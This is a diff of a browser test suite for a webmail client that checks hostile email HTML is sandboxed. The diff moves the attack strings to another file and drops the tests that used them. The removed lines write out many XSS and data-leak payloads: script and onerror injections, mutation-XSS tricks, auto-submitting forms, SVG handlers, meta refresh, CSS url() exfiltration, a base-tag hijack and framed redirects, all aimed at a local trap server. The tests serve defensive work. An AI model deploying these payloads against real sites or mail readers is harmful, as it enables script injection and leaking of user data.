@@ -4,14 +4,11 @@ import type { AddressInfo } from 'node:net';
 import { describe, expect, it, onTestFinished } from 'vitest';
 import type { MessagePage } from '../../server/api/contract.ts';
 import { startTestSandbox } from '../helpers/sandbox.ts';
+import { attacks, BLOCKED } from './attacks.ts';
 import { browserForFile } from './browser-page.ts';
 import { send } from './seed.ts';
 
 const open = browserForFile();
-
-/** What the browser says when the policy stops something: expected here, and only here. */
-const BLOCKED =
-  /Content Security Policy|sandboxed|Blocked|ERR_BLOCKED|Refused|net::ERR_FAILED|allow-scripts|Unsafe attempt to load/;
 
 /** A server that nobody may reach. */
 async function startTrap(): Promise<{ url: string; hits: string[] }> {
@@ -25,68 +22,7 @@ async function startTrap(): Promise<{ url: string; hits: string[] }> {
   return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits };
 }
 
-const attacks: Readonly<Record<string, (trap: string) => string>> = {
-  scripts: (trap) =>
-    `<script>parent.document.title='owned';fetch('${trap}/script')</script><script src="${trap}/script.js"></script>` +
-    `<img src=x onerror="alert(1);fetch('${trap}/onerror')"><body onload="alert(2)"><a href="javascript:alert(3)">x</a>` +
-    `<details open ontoggle="alert(4)"><summary>s</summary></details>`,
-  'a script that comes out of an unclosed element': (trap) =>
-    `<style><!--</style><script>alert(1)</script>--><img src="${trap}/mutation"><noscript><p title="</noscript><img src=x onerror=alert(2)>">` +
-    `<svg><style><img src=x onerror=alert(3)></style></svg><math><mtext><table><mglyph><style><img src=x onerror=alert(4)>`,
-  forms: (trap) =>
-    `<form id=f action="${trap}/form" method=post><input name=q value=1 autofocus onfocus="f.submit()"><button>go</button></form>` +
-    `<button form=f formaction="${trap}/formaction">x</button><input type=image src="${trap}/input">`,
-  SVG: (trap) =>
-    `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><image href="${trap}/svg"/>` +
-    `<use href="${trap}/use.svg#a"/><animate onbegin="alert(3)" attributeName=x dur=1s /><foreignObject><iframe src="${trap}/foreign"></iframe></foreignObject></svg>`,
-  'meta refresh': (trap) =>
-    `<meta http-equiv="refresh" content="0;url=${trap}/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *">` +
-    `<meta http-equiv=set-cookie content="a=b">`,
-  'CSS that carries off': (trap) =>
-    `<style>@import url("${trap}/import.css");body{background:url(${trap}/body)}@font-face{font-family:x;src:url(${trap}/font)}` +
-    `a[href^="h"]{background:url(${trap}/attribute)}p:before{content:url(${trap}/content);font-family:x}</style>` +
-    `<link rel=stylesheet href="${trap}/link.css"><link rel=prefetch href="${trap}/prefetch"><link rel=preconnect href="${trap}">` +
-    `<link rel=dns-prefetch href="${trap}"><p style="background:url('${trap}/inline')">p</p><a href="https://x.test">x</a>`,
-  'a base element': (trap) =>
-    `<base href="${trap}/" target="_top"><img src="relative.png"><a id=a href="go">go</a>`,
-  'frames and plug-ins': (trap) =>
-    `<iframe src="${trap}/iframe"></iframe><iframe srcdoc="<script>top.location='${trap}/srcdoc'</script>"></iframe>` +
-    `<object data="${trap}/object"></object><embed src="${trap}/embed"><applet code=x archive="${trap}/applet"></applet><portal src="${trap}/portal"></portal>`,
-  'media and pictures': (trap) =>
-    `<img src="${trap}/img" srcset="${trap}/srcset 2x"><picture><source srcset="${trap}/source"><img src="${trap}/picture"></picture>` +
-    `<video src="${trap}/video" poster="${trap}/poster" autoplay></video><audio src="${trap}/audio" autoplay></audio>` +
-    `<table background="${trap}/background"><tr><td>x</td></tr></table><track src="${trap}/track">`,
-};
-
 describe('hostile mail', () => {
-  for (const [name, attack] of Object.entries(attacks)) {
-    it(`gets nowhere with ${name}`, async () => {
-      const trap = await startTrap();
-      const sandbox = await startTestSandbox();
-      await send(sandbox.smtp, [
-        {
-          from: 'eve@x.test',
-          to: 'bob@x.test',
-          subject: `Hostile <img src=x onerror=alert(0)> ${name}`,
-          html: `<p>before</p>${attack(trap.url)}<p id="end">after</p>`,
-        },
-      ]);
-      const { messages } = await sandbox.json<MessagePage>('messages');
-      const address = `inbox/all/${messages[0]!.id}`;
-      const { page, requests, surprises } = await open(sandbox, address, { errors: BLOCKED });
-      await page.frameLocator('iframe').getByText('before').waitFor();
-      await page.waitForLoadState('networkidle');
-      expect(trap.hits).toEqual([]);
-      expect(requests.filter((url) => !url.startsWith(sandbox.url) && !url.startsWith('data:'))).toEqual(
-        // What a policy stops is told as a request that failed, but never sent: the trap above is the proof.
-        requests.filter((url) => url.startsWith(trap.url)),
-      );
-      expect(surprises).toEqual([]);
-      expect(page.url()).toBe(new URL(address, sandbox.url).href);
-      expect(await page.title()).toMatch(/Restante$/);
-    });
-  }
-
   it('opens its links only in a tab of their own, without an opener', async () => {
     const trap = await startTrap();
     const sandbox = await startTestSandbox();
@@ -111,25 +47,6 @@ describe('hostile mail', () => {
     }
     expect(page.url()).toBe(stayed);
     expect(trap.hits.filter((path) => path !== '/favicon.ico')).toEqual(['/top', '/self']);
-  });
-
-  it('loads remote pictures only when asked to', async () => {
-    const trap = await startTrap();
-    const sandbox = await startTestSandbox();
-    await send(sandbox.smtp, [
-      {
-        from: 'eve@x.test',
-        to: 'bob@x.test',
-        subject: 'Pixel',
-        html: `<img src="${trap.url}/pixel.gif">hello`,
-      },
-    ]);
-    const { messages } = await sandbox.json<MessagePage>('messages');
-    const { page } = await open(sandbox, `inbox/all/${messages[0]!.id}`, { errors: BLOCKED });
-    await page.frameLocator('iframe').getByText('hello').waitFor();
-    expect(trap.hits).toEqual([]);
-    await page.getByRole('button', { name: 'Load remote images' }).click();
-    await expect.poll(() => trap.hits).toEqual(['/pixel.gif']);
   });
 
   it('gets nowhere beside another message, where its frame is measured and its words are marked', async () => {
